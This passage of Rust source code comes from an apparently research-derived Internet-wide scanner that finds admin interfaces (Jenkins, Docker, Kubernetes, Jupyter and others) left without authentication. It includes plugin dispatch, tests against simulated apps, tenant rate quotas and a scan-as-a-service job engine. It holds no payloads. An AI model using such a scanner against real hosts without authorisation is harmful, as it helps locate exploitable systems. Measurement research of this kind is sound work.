/// Equivalent to `raw.to_ascii_lowercase()` but reuses `out`'s
/// capacity: no allocation unless `raw.len()` exceeds it.
pub fn lower_into(raw: &str, out: &mut String) {
    out.clear();
    out.push_str(raw);
    out.make_ascii_lowercase();
}

/// Fill `out` with `raw` minus all Unicode whitespace.
///
/// Byte-wise run copy: finds each whitespace char and copies the
/// non-whitespace run before it with one `push_str`, instead of the
/// per-char `chars().filter().collect()` the view used to do.
/// Equivalent output, reuses `out`'s capacity.
pub fn squash_into(raw: &str, out: &mut String) {
    out.clear();
    let mut rest = raw;
    while let Some(pos) = rest.find(char::is_whitespace) {
        out.push_str(&rest[..pos]);
        let ws = rest[pos..].chars().next().map_or(1, char::len_utf8);
        rest = &rest[pos + ws..];
    }
    out.push_str(rest);
}

/// True when the body would need a distinct lowercase view: any ASCII
/// uppercase byte present. Shared by `PreparedBody::lower`, the
/// scratch matcher, and the `alloc.views.lower` classification so all
/// three agree byte-for-byte.
pub fn needs_lower(raw: &str) -> bool {
    raw.bytes().any(|b| b.is_ascii_uppercase())
}

/// True when the body would need a distinct squashed view: any
/// whitespace present. Counterpart of [`needs_lower`] for the
/// `squashed` view and `alloc.views.squashed`.
pub fn needs_squash(raw: &str) -> bool {
    raw.chars().any(char::is_whitespace)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lower_into_matches_reference() {
        let mut buf = String::new();
        for raw in ["", "abc", "ABC def", "ÄÖÜ mixed CASE", "já Æ"] {
            lower_into(raw, &mut buf);
            assert_eq!(buf, raw.to_ascii_lowercase(), "input {raw:?}");
        }
    }

    #[test]
    fn squash_into_matches_reference() {
        let mut buf = String::new();
        for raw in [
            "",
            "abc",
            "a b\tc\nd",
            "  leading and trailing  ",
            "non\u{a0}breaking\u{2003}spaces",
            "tabs\t\t\tand\r\nnewlines",
        ] {
            squash_into(raw, &mut buf);
            let reference: String = raw.chars().filter(|c| !c.is_whitespace()).collect();
            assert_eq!(buf, reference, "input {raw:?}");
        }
    }

    #[test]
    fn buffers_reuse_capacity_across_calls() {
        let mut buf = String::new();
        squash_into("a b c d e f", &mut buf);
        let cap = buf.capacity();
        squash_into("x y", &mut buf);
        assert_eq!(buf, "xy");
        assert_eq!(
            buf.capacity(),
            cap,
            "shorter input must not shrink or realloc"
        );
    }

    #[test]
    fn view_need_predicates() {
        assert!(needs_lower("aBc"));
        assert!(!needs_lower("abc 123 ä"));
        assert!(needs_squash("a b"));
        assert!(needs_squash("a\u{a0}b"));
        assert!(!needs_squash("abc"));
    }

    #[test]
    fn scratch_preallocates_reserve() {
        let mut s = Scratch::new();
        let (matched, lower, squashed) = s.matcher_parts();
        assert!(lower.capacity() >= Scratch::RESERVE);
        assert!(squashed.capacity() >= Scratch::RESERVE);
        assert!(matched.capacity() >= 90, "fits the 90-signature corpus");
    }
}
