//! The paper's primary contribution: a three-stage Internet-wide scanning
//! pipeline for **missing authentication vulnerabilities** (MAVs) in
//! administrative web endpoints (AWEs), modeled after the Tsunami scanner.
//!
//! * **Stage I** ([`portscan`]): masscan-style port sweep — randomized
//!   /24 block order, IANA reserved-range exclusion, 12 target ports.
//! * **Stage II** ([`prefilter`]): HTTP(S) probe with redirect following
//!   and 90 per-application [`signatures`] that discard out-of-scope
//!   hosts, compiled into a single-pass [`multipattern`] automaton.
//! * **Stage III** ([`plugin`], [`plugins`]): per-application MAV
//!   verification following the exact steps of the paper's Appendix
//!   Table 10, restricted to non-state-changing `GET` requests.
//! * **Version fingerprinting** ([`fingerprint`]): voluntary version
//!   disclosure plus a static-file hash knowledge base with a crawler.
//! * **Longevity observation** ([`observer`]): 3-hourly rescans of
//!   vulnerable hosts over four weeks (Figure 2).
//! * **Telemetry** ([`telemetry`]): a lock-cheap metrics registry
//!   threaded through every stage — counters, fixed-bucket histograms
//!   and virtual-clock stage timings, snapshot as deterministic JSON.
//! * **Scan-as-a-service** ([`jobs`]): a multi-tenant [`JobEngine`]
//!   with token-bucket quotas, pause/resume backed by the checkpoint
//!   machinery, streamed per-batch results, and recurring observer
//!   jobs — plus the NDJSON wire protocol of the `nokeys-scand`
//!   daemon.
//!
//! The pipeline is generic over the [`Transport`](nokeys_http::Transport)
//! abstraction: the same code scans the simulated universe
//! (`nokeys-netsim`) and real sockets (`live_scan` example).

pub mod checkpoint;
pub mod ct;
pub mod disclosure;
pub mod fingerprint;
pub mod htmlcheck;
pub mod jobs;
pub mod multipattern;
pub mod observer;
pub mod pattern;
pub mod pipeline;
pub mod plugin;
pub mod plugins;
pub mod portscan;
pub mod prefilter;
pub mod prelude;
pub mod rate;
pub mod report;
pub mod retry;
pub mod scratch;
pub mod shard;
pub mod signatures;
pub mod telemetry;

pub use checkpoint::{CheckpointError, ConfigFingerprint, ScanCheckpoint};
pub use jobs::{JobEngine, JobHandle, JobSpec, WorkerLaunch};
pub use multipattern::{MultiPattern, ViewUse};
pub use pattern::{MatchMode, Pattern, PreparedBody};
pub use pipeline::{Pipeline, PipelineConfig, PipelineConfigBuilder, PipelineError};
pub use plugin::{detect_mav, plugin_steps};
pub use portscan::{PortScanConfig, PortScanResult, PortScanner};
pub use prefilter::{Prefilter, PrefilterHit};
pub use rate::SharedPacer;
pub use report::{FingerprintMethod, HostFinding, ScanReport};
pub use retry::{RetryPolicy, RetryTransport};
pub use scratch::Scratch;
pub use shard::{ShardCheckpoint, ShardSegment, ShardStats};
pub use telemetry::{Telemetry, TelemetrySnapshot};
