//! Plugin dispatch for stage III: MAV verification.
//!
//! Each in-scope application has a dedicated detection routine in
//! [`crate::plugins`], implementing the steps of the paper's Appendix
//! Table 10. All detection is restricted to non-state-changing `GET`
//! requests — the scanner infers the presence of a MAV from the presence
//! of the vulnerable functionality without exercising it.

use crate::telemetry::Telemetry;
use nokeys_apps::{AppId, WebApp};
use nokeys_http::server::Handler;
use nokeys_http::{Client, Endpoint, Request, Response, Scheme, Transport};
use std::net::Ipv4Addr;
use std::sync::Mutex;

/// Run the MAV detection plugin for `app` against `ep`.
///
/// Returns `true` iff all of the plugin's steps succeed; transport errors
/// and missing pages yield `false` (no MAV confirmed). Transient-fault
/// tolerance is not handled here: when run under the pipeline, the
/// client's transport is a [`RetryTransport`](crate::retry::RetryTransport)
/// that retries timeouts and dropped connections before the plugin ever
/// sees them.
pub async fn detect_mav<T: Transport>(
    client: &Client<T>,
    app: AppId,
    ep: Endpoint,
    scheme: Scheme,
) -> bool {
    use crate::plugins::*;
    match app {
        AppId::Jenkins => jenkins::detect(client, ep, scheme).await,
        AppId::Gocd => gocd::detect(client, ep, scheme).await,
        AppId::WordPress => wordpress::detect(client, ep, scheme).await,
        AppId::Grav => grav::detect(client, ep, scheme).await,
        AppId::Joomla => joomla::detect(client, ep, scheme).await,
        AppId::Drupal => drupal::detect(client, ep, scheme).await,
        AppId::Kubernetes => kubernetes::detect(client, ep, scheme).await,
        AppId::Docker => docker::detect(client, ep, scheme).await,
        AppId::Consul => consul::detect(client, ep, scheme).await,
        AppId::Hadoop => hadoop::detect(client, ep, scheme).await,
        AppId::Nomad => nomad::detect(client, ep, scheme).await,
        AppId::JupyterLab => jupyter_lab::detect(client, ep, scheme).await,
        AppId::JupyterNotebook => jupyter_notebook::detect(client, ep, scheme).await,
        AppId::Zeppelin => zeppelin::detect(client, ep, scheme).await,
        AppId::Polynote => polynote::detect(client, ep, scheme).await,
        AppId::Ajenti => ajenti::detect(client, ep, scheme).await,
        AppId::PhpMyAdmin => phpmyadmin::detect(client, ep, scheme).await,
        AppId::Adminer => adminer::detect(client, ep, scheme).await,
        // Out-of-scope applications have no MAV plugin.
        _ => false,
    }
}

/// [`detect_mav`] with per-application telemetry: each run records one
/// virtual unit on the `stage3.verify` timer and increments
/// `stage3.verify.<app>.confirmed` or `stage3.verify.<app>.rejected`.
pub async fn detect_mav_instrumented<T: Transport>(
    telemetry: &Telemetry,
    client: &Client<T>,
    app: AppId,
    ep: Endpoint,
    scheme: Scheme,
) -> bool {
    let confirmed = detect_mav(client, app, ep, scheme).await;
    telemetry.timer("stage3.verify").record(1);
    let outcome = if confirmed { "confirmed" } else { "rejected" };
    telemetry
        .counter(&format!("stage3.verify.{app}.{outcome}"))
        .incr();
    confirmed
}

/// Human-readable detection steps (the content of Appendix Table 10),
/// used by the `repro table10` harness.
pub fn plugin_steps(app: AppId) -> &'static [&'static str] {
    use crate::plugins::*;
    match app {
        AppId::Jenkins => jenkins::STEPS,
        AppId::Gocd => gocd::STEPS,
        AppId::WordPress => wordpress::STEPS,
        AppId::Grav => grav::STEPS,
        AppId::Joomla => joomla::STEPS,
        AppId::Drupal => drupal::STEPS,
        AppId::Kubernetes => kubernetes::STEPS,
        AppId::Docker => docker::STEPS,
        AppId::Consul => consul::STEPS,
        AppId::Hadoop => hadoop::STEPS,
        AppId::Nomad => nomad::STEPS,
        AppId::JupyterLab => jupyter_lab::STEPS,
        AppId::JupyterNotebook => jupyter_notebook::STEPS,
        AppId::Zeppelin => zeppelin::STEPS,
        AppId::Polynote => polynote::STEPS,
        AppId::Ajenti => ajenti::STEPS,
        AppId::PhpMyAdmin => phpmyadmin::STEPS,
        AppId::Adminer => adminer::STEPS,
        _ => &[],
    }
}

/// Adapter exposing a single [`WebApp`] instance as an HTTP [`Handler`]
/// (used by plugin tests and the `live_scan` example to serve app models
/// over real or in-memory transports).
pub struct AppHandler {
    instance: Mutex<Box<dyn WebApp>>,
}

impl AppHandler {
    pub fn new(instance: Box<dyn WebApp>) -> Self {
        AppHandler {
            instance: Mutex::new(instance),
        }
    }

    /// Ground truth of the wrapped instance.
    pub fn is_vulnerable(&self) -> bool {
        self.instance.lock().expect("not poisoned").is_vulnerable()
    }
}

impl Handler for AppHandler {
    fn handle(&self, req: &Request, peer: Ipv4Addr) -> Response {
        self.instance
            .lock()
            .expect("not poisoned")
            .handle(req, peer)
            .response
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::{build_instance, release_history, AppConfig};
    use nokeys_http::memory::HandlerTransport;
    use std::sync::Arc;

    fn client_for(app: AppId, vulnerable: bool, old: bool) -> (Client<HandlerTransport>, Endpoint) {
        let history = release_history(app);
        let version = if old {
            history[0]
        } else {
            *history.last().unwrap()
        };
        let cfg = if vulnerable {
            AppConfig::vulnerable_for(app, &version)
        } else {
            AppConfig::secure_for(app, &version)
        };
        let ep = Endpoint::new(Ipv4Addr::new(10, 1, 1, 1), app.scan_ports()[0]);
        let handler = Arc::new(AppHandler::new(build_instance(app, version, cfg)));
        let t = HandlerTransport::new().with(ep, handler);
        (Client::new(t), ep)
    }

    /// Every plugin must confirm a vulnerable instance and pass on a
    /// secured one — the core correctness property of stage III.
    #[tokio::test]
    async fn plugins_match_ground_truth_for_all_apps() {
        for app in AppId::in_scope() {
            // Changed-over-time apps need old versions to be vulnerable.
            let old = matches!(
                app,
                AppId::Jenkins | AppId::JupyterNotebook | AppId::Joomla | AppId::Adminer
            );
            let (client, ep) = client_for(app, true, old);
            assert!(
                detect_mav(&client, app, ep, Scheme::Http).await,
                "{app}: vulnerable instance not detected"
            );
            if app == AppId::Polynote {
                // Polynote cannot be secured; skip the negative case.
                continue;
            }
            let (client, ep) = client_for(app, false, false);
            assert!(
                !detect_mav(&client, app, ep, Scheme::Http).await,
                "{app}: secure instance falsely flagged"
            );
        }
    }

    #[tokio::test]
    async fn instrumented_detection_records_outcomes() {
        let telemetry = Telemetry::new();
        let app = AppId::Hadoop;
        let (client, ep) = client_for(app, true, false);
        assert!(detect_mav_instrumented(&telemetry, &client, app, ep, Scheme::Http).await);
        let (client, ep) = client_for(app, false, false);
        assert!(!detect_mav_instrumented(&telemetry, &client, app, ep, Scheme::Http).await);
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("stage3.verify.Hadoop.confirmed"), 1);
        assert_eq!(snap.counter("stage3.verify.Hadoop.rejected"), 1);
        assert_eq!(snap.timings["stage3.verify"].units, 2);
    }

    #[tokio::test]
    async fn unreachable_targets_are_not_flagged() {
        let t = HandlerTransport::new();
        let client = Client::new(t);
        let ep = Endpoint::new(Ipv4Addr::new(10, 1, 1, 1), 8080);
        for app in AppId::in_scope() {
            assert!(!detect_mav(&client, app, ep, Scheme::Http).await, "{app}");
        }
    }

    #[test]
    fn every_in_scope_app_documents_steps() {
        for app in AppId::in_scope() {
            assert!(!plugin_steps(app).is_empty(), "{app} lacks step docs");
        }
        assert!(plugin_steps(AppId::Gitlab).is_empty());
    }

    #[tokio::test]
    async fn out_of_scope_apps_never_detect() {
        let (client, ep) = {
            let app = AppId::Gitlab;
            let history = release_history(app);
            let version = *history.last().unwrap();
            let ep = Endpoint::new(Ipv4Addr::new(10, 1, 1, 2), 80);
            let handler = Arc::new(AppHandler::new(build_instance(
                app,
                version,
                AppConfig::default_for(app, &version),
            )));
            (Client::new(HandlerTransport::new().with(ep, handler)), ep)
        };
        assert!(!detect_mav(&client, AppId::Gitlab, ep, Scheme::Http).await);
    }
}
