//! Tenant quotas: per-tenant token buckets chained under the engine's
//! global ceiling.
//!
//! This generalizes the single [`SharedPacer`] of the sharded pipeline
//! (one bucket shared by every worker) into a **two-level budget**:
//! every probe drawn by any of a tenant's jobs is charged to the
//! tenant's bucket *and* to the global bucket, so
//!
//! * one tenant can never exceed its own quota, no matter how many
//!   jobs it runs concurrently, and
//! * all tenants together can never exceed the engine-wide ceiling.
//!
//! A job may add a third level below these (its spec's
//! `max_probes_per_sec`), giving a job→tenant→global chain. Chaining is
//! implemented by [`SharedPacer::with_upstream`]; a level without a
//! limit is a free [`SharedPacer::passthrough`]. Pacing only ever adds
//! virtual waiting time — it never changes report bytes — so quota
//! settings are deliberately excluded from the checkpoint fingerprint
//! surface.

use crate::rate::SharedPacer;
use serde::{Deserialize, Serialize};

/// Quota settings for one tenant.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
#[non_exhaustive]
pub struct TenantConfig {
    /// Probe-rate ceiling across *all* of the tenant's jobs; `None` is
    /// unlimited (the tenant still shares the global ceiling).
    pub max_probes_per_sec: Option<f64>,
    /// Token-bucket burst capacity; defaults to one second of rate.
    pub burst: Option<f64>,
}

impl TenantConfig {
    /// An unlimited tenant (bounded only by the global ceiling).
    pub fn unlimited() -> Self {
        TenantConfig::default()
    }

    /// A tenant capped at `rate` probes/second.
    pub fn rate(rate: f64) -> Self {
        TenantConfig {
            max_probes_per_sec: Some(rate),
            burst: None,
        }
    }

    /// Build this tenant's pacer, chained under `global`. Clones of the
    /// returned pacer (one per job) all drain the same tenant bucket.
    pub(crate) fn build_pacer(&self, global: &SharedPacer) -> SharedPacer {
        match self.max_probes_per_sec {
            Some(rate) => {
                let burst = self.burst.unwrap_or(rate.max(1.0));
                SharedPacer::new(rate, burst).with_upstream(global.clone())
            }
            None => SharedPacer::passthrough().with_upstream(global.clone()),
        }
    }
}

/// One registered tenant: its configuration and its live pacer.
#[derive(Debug, Clone)]
pub(crate) struct Tenant {
    pub config: TenantConfig,
    pub pacer: SharedPacer,
}

impl Tenant {
    pub fn new(config: TenantConfig, global: &SharedPacer) -> Self {
        let pacer = config.build_pacer(global);
        Tenant { config, pacer }
    }

    /// The pacer a job of this tenant should draw from: the job's own
    /// bucket (if the spec sets a rate) chained under the tenant chain.
    pub fn job_pacer(&self, job_rate: Option<f64>) -> SharedPacer {
        match job_rate {
            Some(rate) => {
                SharedPacer::new(rate, rate.max(1.0)).with_upstream(self.pacer.clone())
            }
            None => SharedPacer::passthrough().with_upstream(self.pacer.clone()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    /// Two jobs of one tenant drain the tenant bucket together: their
    /// combined draw pays the tenant's single-bucket wait, exactly like
    /// the shard workers of one pipeline.
    #[tokio::test(start_paused = true)]
    async fn tenant_jobs_share_one_bucket() {
        let global = SharedPacer::passthrough();
        let tenant = Tenant::new(TenantConfig::rate(20.0), &global);
        let a = tenant.job_pacer(None);
        let b = tenant.job_pacer(None);
        let start = tokio::time::Instant::now();
        let ta = tokio::spawn(async move { a.acquire_many(20).await });
        let tb = tokio::spawn(async move { b.acquire_many(21).await });
        ta.await.expect("job a");
        tb.await.expect("job b");
        let elapsed = tokio::time::Instant::now() - start;
        // 41 tokens at 20/s with a 20-token burst: ≥ 1.05s of wait.
        assert!(elapsed >= Duration::from_millis(1_040), "{elapsed:?}");
    }

    /// A job's own rate binds below an unlimited tenant; an unlimited
    /// job under a limited tenant is bound by the tenant.
    #[tokio::test(start_paused = true)]
    async fn job_rate_chains_under_tenant() {
        let global = SharedPacer::passthrough();
        let unlimited = Tenant::new(TenantConfig::unlimited(), &global);
        let paced_job = unlimited.job_pacer(Some(10.0));
        let start = tokio::time::Instant::now();
        for _ in 0..11 {
            paced_job.acquire().await;
        }
        let elapsed = tokio::time::Instant::now() - start;
        assert!(elapsed >= Duration::from_millis(990), "{elapsed:?}");

        let limited = Tenant::new(TenantConfig::rate(10.0), &global);
        let free_job = limited.job_pacer(None);
        let start = tokio::time::Instant::now();
        for _ in 0..11 {
            free_job.acquire().await;
        }
        let elapsed = tokio::time::Instant::now() - start;
        assert!(elapsed >= Duration::from_millis(990), "{elapsed:?}");
    }

    /// Fully unlimited chains report themselves as non-limiting, so the
    /// engine can skip pacer injection entirely.
    #[test]
    fn unlimited_chain_is_not_limiting() {
        let global = SharedPacer::passthrough();
        let tenant = Tenant::new(TenantConfig::unlimited(), &global);
        assert!(!tenant.job_pacer(None).is_limiting());
        assert!(tenant.job_pacer(Some(5.0)).is_limiting());

        let global = SharedPacer::new(100.0, 100.0);
        let tenant = Tenant::new(TenantConfig::unlimited(), &global);
        assert!(tenant.job_pacer(None).is_limiting());
    }
}
