//! The [`JobEngine`]: tenant registry, job queue, and per-job runners.
//!
//! The engine re-hosts the pipeline's own execution strategies rather
//! than inventing a new one, which is what makes the byte-identity
//! contract cheap to keep:
//!
//! * **Unsharded scans** run a faithful mirror of the checkpointed
//!   pipeline loop (consumer-side staging-delta absorption), extended
//!   with two purely-additive capabilities: a [`JobEvent::Batch`]
//!   stream for subscribers, and a cooperative pause that stops at a
//!   batch boundary and persists a checkpoint — exactly the state an
//!   uninterrupted run would have written at that boundary.
//! * **Sharded scans** delegate to the work-stealing shard orchestrator
//!   with the job's chained pacer injected. Pause is an abort: shard
//!   workers persist between awaits, so aborting is the crash the
//!   resume machinery is already proven against.
//! * **Observe jobs** run the longevity observer; a recurring observe
//!   job performs one observation round per recurrence tick via
//!   [`observe_incremental`], all rounds charging one job registry.
//!
//! Every job gets a fresh [`Telemetry`] registry per attempt (a resume
//! absorbs the checkpoint snapshot into the fresh registry first, like
//! the CLI resume path), so a job's final snapshot is byte-identical to
//! a direct [`Pipeline::run`](crate::pipeline::Pipeline::run). The
//! engine's own `engine.*` counters live in the engine registry and are
//! never mixed into any job's.

use super::process::WorkerLaunch;
use super::quota::Tenant;
use super::{
    CheckpointPolicy, JobError, JobEvent, JobId, JobKind, JobOutcome, JobResync, JobSpec,
    JobState, JobStatus, ObserveSpec, Recurrence, ScanSpec, TenantConfig,
};
use crate::checkpoint::{ConfigFingerprint, ScanCheckpoint, CHECKPOINT_FORMAT};
use crate::observer::{
    observe_incremental, observe_instrumented, ObserverConfig, RescanDelta,
};
use crate::pipeline::{BatchProcessor, PipelineConfig, PipelineError};
use crate::portscan::{PortScanner, SweepMsg};
use crate::rate::SharedPacer;
use crate::report::ScanReport;
use crate::retry::RetryTransport;
use crate::shard::existing_shard_files;
use crate::telemetry::{Counter, Telemetry, TelemetrySnapshot};
use nokeys_http::{Client, Transport};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::sync::{broadcast, mpsc, watch};
use tokio::task::JoinHandle;

/// Wall-clock hook for observe jobs; wire to
/// `SimTransport::set_time` in simulation.
type ClockFn = Box<dyn FnMut(i64) + Send>;

/// Engine-wide settings.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct EngineConfig {
    /// Directory for [`CheckpointPolicy::Spooled`] job checkpoints.
    pub spool_dir: PathBuf,
    /// Maximum concurrently running jobs; further submissions queue by
    /// (priority desc, submission order).
    pub max_active: usize,
    /// Global probe-rate ceiling shared by every tenant; `None` is
    /// unlimited.
    pub max_probes_per_sec: Option<f64>,
    /// Per-job broadcast buffer for [`JobEvent`]s; slow subscribers that
    /// fall further behind observe `Lagged` and lose oldest events.
    pub events_capacity: usize,
    /// How to launch external scan workers; `None` (the default)
    /// disables the process tier, and a scan with `workers > 0` fails
    /// with a clear error instead of silently running in-process.
    pub worker_launch: Option<WorkerLaunch>,
}

impl Default for EngineConfig {
    fn default() -> Self {
        EngineConfig {
            spool_dir: std::env::temp_dir().join(format!("nokeys-jobs-{}", std::process::id())),
            max_active: 4,
            max_probes_per_sec: None,
            events_capacity: 256,
            worker_launch: None,
        }
    }
}

/// `engine.*` counters, recorded in the engine's own registry.
struct EngineCounters {
    submitted: Counter,
    completed: Counter,
    failed: Counter,
    cancelled: Counter,
    paused: Counter,
    resumed: Counter,
    batches: Counter,
    rounds: Counter,
}

impl EngineCounters {
    fn new(telemetry: &Telemetry) -> Self {
        EngineCounters {
            submitted: telemetry.counter("engine.jobs.submitted"),
            completed: telemetry.counter("engine.jobs.completed"),
            failed: telemetry.counter("engine.jobs.failed"),
            cancelled: telemetry.counter("engine.jobs.cancelled"),
            paused: telemetry.counter("engine.jobs.paused"),
            resumed: telemetry.counter("engine.jobs.resumed"),
            batches: telemetry.counter("engine.batches"),
            rounds: telemetry.counter("engine.observe.rounds"),
        }
    }
}

/// Everything the engine tracks about one job.
struct JobRecord {
    spec: JobSpec,
    state: JobState,
    state_tx: watch::Sender<JobState>,
    events: broadcast::Sender<JobEvent>,
    pause_tx: watch::Sender<bool>,
    task: Option<JoinHandle<()>>,
    outcome: Option<JobOutcome>,
    error: Option<String>,
    /// Resolved checkpoint file and cadence (batches per write).
    checkpoint: Option<(PathBuf, u64)>,
    /// `CheckpointPolicy::Explicit { resume: true, .. }`: pick up a
    /// pre-existing checkpoint on first start.
    resume_spec: bool,
    /// Restarting after a pause: pick up the job's own checkpoint.
    resumed: bool,
    /// The job→tenant→global pacer chain, `None` when nothing limits.
    pacer: Option<SharedPacer>,
    batches_done: u64,
    rounds_done: u32,
    /// Cumulative (report, telemetry) of the current unsharded round,
    /// refreshed per batch — the payload a lagged subscriber resyncs
    /// from.
    progress: Option<Box<(ScanReport, TelemetrySnapshot)>>,
}

struct Inner<T: Transport + Clone + 'static> {
    client: Client<T>,
    config: EngineConfig,
    /// Engine-level registry: `engine.*` counters plus every completed
    /// job's absorbed snapshot.
    telemetry: Telemetry,
    counters: EngineCounters,
    global: SharedPacer,
    clock: Mutex<Option<ClockFn>>,
    tenants: Mutex<HashMap<String, Tenant>>,
    jobs: Mutex<HashMap<u64, JobRecord>>,
    queue: Mutex<Vec<u64>>,
    active: AtomicUsize,
    next_id: AtomicU64,
}

/// The multi-tenant scan-as-a-service engine. Cheap to clone; clones
/// share one tenant registry, queue and job table.
///
/// Submission requires a running tokio runtime (jobs are spawned
/// tasks).
pub struct JobEngine<T: Transport + Clone + 'static> {
    inner: Arc<Inner<T>>,
}

impl<T: Transport + Clone + 'static> Clone for JobEngine<T> {
    fn clone(&self) -> Self {
        JobEngine {
            inner: Arc::clone(&self.inner),
        }
    }
}

/// Control handle for one submitted job. Cheap to clone.
pub struct JobHandle<T: Transport + Clone + 'static> {
    inner: Arc<Inner<T>>,
    id: JobId,
}

impl<T: Transport + Clone + 'static> Clone for JobHandle<T> {
    fn clone(&self) -> Self {
        JobHandle {
            inner: Arc::clone(&self.inner),
            id: self.id,
        }
    }
}

impl<T: Transport + Clone + 'static> JobEngine<T> {
    /// An engine over `client` with default settings.
    pub fn new(client: Client<T>) -> Self {
        Self::with_config(client, EngineConfig::default())
    }

    /// An engine over `client` with explicit settings.
    pub fn with_config(client: Client<T>, config: EngineConfig) -> Self {
        let telemetry = Telemetry::new();
        let counters = EngineCounters::new(&telemetry);
        let global = match config.max_probes_per_sec {
            Some(rate) => SharedPacer::new(rate, rate.max(1.0)),
            None => SharedPacer::passthrough(),
        };
        JobEngine {
            inner: Arc::new(Inner {
                client,
                config,
                telemetry,
                counters,
                global,
                clock: Mutex::new(None),
                tenants: Mutex::new(HashMap::new()),
                jobs: Mutex::new(HashMap::new()),
                queue: Mutex::new(Vec::new()),
                active: AtomicUsize::new(0),
                next_id: AtomicU64::new(1),
            }),
        }
    }

    /// Install the observe-job clock hook (e.g.
    /// `wire_observer_clock(&sim_transport)`); called with the offset in
    /// seconds from each study's start before every observation round.
    pub fn with_clock(self, clock: impl FnMut(i64) + Send + 'static) -> Self {
        *self.inner.clock.lock().expect("clock lock") = Some(Box::new(clock));
        self
    }

    /// Register (or reconfigure) a tenant's quota. Applies to jobs
    /// submitted afterwards; unknown tenants named by a [`JobSpec`] are
    /// auto-registered with [`TenantConfig::unlimited`].
    pub fn register_tenant(&self, name: impl Into<String>, config: TenantConfig) {
        let mut tenants = self.inner.tenants.lock().expect("tenants lock");
        tenants.insert(name.into(), Tenant::new(config, &self.inner.global));
    }

    /// Submit a job; it starts immediately if an active slot is free.
    pub fn submit(&self, spec: JobSpec) -> JobHandle<T> {
        let inner = &self.inner;
        let id = inner.next_id.fetch_add(1, Ordering::SeqCst);
        let job_rate = match &spec.kind {
            JobKind::Scan(scan) => scan.max_probes_per_sec,
            JobKind::Observe(_) => None,
        };
        let pacer = {
            let mut tenants = inner.tenants.lock().expect("tenants lock");
            let tenant = tenants
                .entry(spec.tenant.clone())
                .or_insert_with(|| Tenant::new(TenantConfig::unlimited(), &inner.global));
            tenant.job_pacer(job_rate)
        };
        let pacer = if pacer.is_limiting() { Some(pacer) } else { None };
        let (checkpoint, resume_spec) = match (&spec.kind, &spec.checkpoint) {
            (JobKind::Observe(_), _) | (_, CheckpointPolicy::Disabled) => (None, false),
            (_, CheckpointPolicy::Spooled { every }) => {
                let _ = std::fs::create_dir_all(&inner.config.spool_dir);
                let path = inner.config.spool_dir.join(format!("job-{id}.ckpt"));
                (Some((path, (*every).max(1))), false)
            }
            (_, CheckpointPolicy::Explicit { path, every, resume }) => {
                (Some((path.clone(), (*every).max(1))), *resume)
            }
        };
        let (state_tx, _) = watch::channel(JobState::Queued);
        let (pause_tx, _) = watch::channel(false);
        let (events, _) = broadcast::channel(inner.config.events_capacity.max(16));
        let record = JobRecord {
            spec,
            state: JobState::Queued,
            state_tx,
            events,
            pause_tx,
            task: None,
            outcome: None,
            error: None,
            checkpoint,
            resume_spec,
            resumed: false,
            pacer,
            batches_done: 0,
            rounds_done: 0,
            progress: None,
        };
        inner.jobs.lock().expect("jobs lock").insert(id, record);
        inner.queue.lock().expect("queue lock").push(id);
        inner.counters.submitted.incr();
        inner.dispatch();
        JobHandle {
            inner: Arc::clone(inner),
            id: JobId(id),
        }
    }

    /// A handle to a previously submitted job.
    pub fn handle(&self, id: JobId) -> Result<JobHandle<T>, JobError> {
        let jobs = self.inner.jobs.lock().expect("jobs lock");
        if !jobs.contains_key(&id.0) {
            return Err(JobError::UnknownJob(id));
        }
        Ok(JobHandle {
            inner: Arc::clone(&self.inner),
            id,
        })
    }

    /// Point-in-time status of one job.
    pub fn status(&self, id: JobId) -> Result<JobStatus, JobError> {
        self.inner.status(id)
    }

    /// Status of every job this engine has ever accepted, by id.
    pub fn jobs(&self) -> Vec<JobStatus> {
        let jobs = self.inner.jobs.lock().expect("jobs lock");
        let mut all: Vec<JobStatus> = jobs
            .iter()
            .map(|(raw, job)| JobStatus {
                id: JobId(*raw),
                tenant: job.spec.tenant.clone(),
                state: job.state,
                batches_done: job.batches_done,
                rounds_done: job.rounds_done,
            })
            .collect();
        all.sort_by_key(|s| s.id);
        all
    }

    /// The engine's own registry (`engine.*` counters plus every
    /// completed job's absorbed snapshot).
    pub fn telemetry(&self) -> &Telemetry {
        &self.inner.telemetry
    }

    /// Snapshot of [`telemetry`](Self::telemetry) — the `metrics` wire
    /// command.
    pub fn metrics(&self) -> TelemetrySnapshot {
        self.inner.telemetry.snapshot()
    }
}

impl<T: Transport + Clone + 'static> JobHandle<T> {
    /// The engine-assigned id.
    pub fn id(&self) -> JobId {
        self.id
    }

    /// Point-in-time status.
    pub fn status(&self) -> Result<JobStatus, JobError> {
        self.inner.status(self.id)
    }

    /// Subscribe to this job's [`JobEvent`] stream. Events sent before
    /// the subscription are not replayed.
    pub fn subscribe(&self) -> Result<broadcast::Receiver<JobEvent>, JobError> {
        let jobs = self.inner.jobs.lock().expect("jobs lock");
        let job = jobs.get(&self.id.0).ok_or(JobError::UnknownJob(self.id))?;
        Ok(job.events.subscribe())
    }

    /// Full-state snapshot for a subscriber that lagged and lost
    /// [`JobEvent::Batch`] deltas: current status plus the cumulative
    /// report and telemetry so far (the final outcome's, once the job
    /// completed). Rebuild from this instead of summing missed deltas.
    pub fn resync(&self) -> Result<JobResync, JobError> {
        self.inner.resync(self.id)
    }

    /// Pause at the next batch boundary (unsharded: cooperative stop +
    /// checkpoint write; sharded: abort, relying on the workers'
    /// crash-safe shard files). Returns once the job is parked.
    pub async fn pause(&self) -> Result<(), JobError> {
        self.inner.pause(self.id).await
    }

    /// Re-queue a paused job; it continues from its checkpoint and the
    /// completed run is byte-identical to one that never paused.
    pub fn resume(&self) -> Result<(), JobError> {
        self.inner.resume(self.id)
    }

    /// Cancel the job (any non-terminal state) and remove its
    /// checkpoint files.
    pub async fn cancel(&self) -> Result<(), JobError> {
        self.inner.cancel(self.id).await
    }

    /// Wait for the job to reach a terminal state and return its
    /// outcome. A paused job keeps `wait` pending until it is resumed
    /// or cancelled.
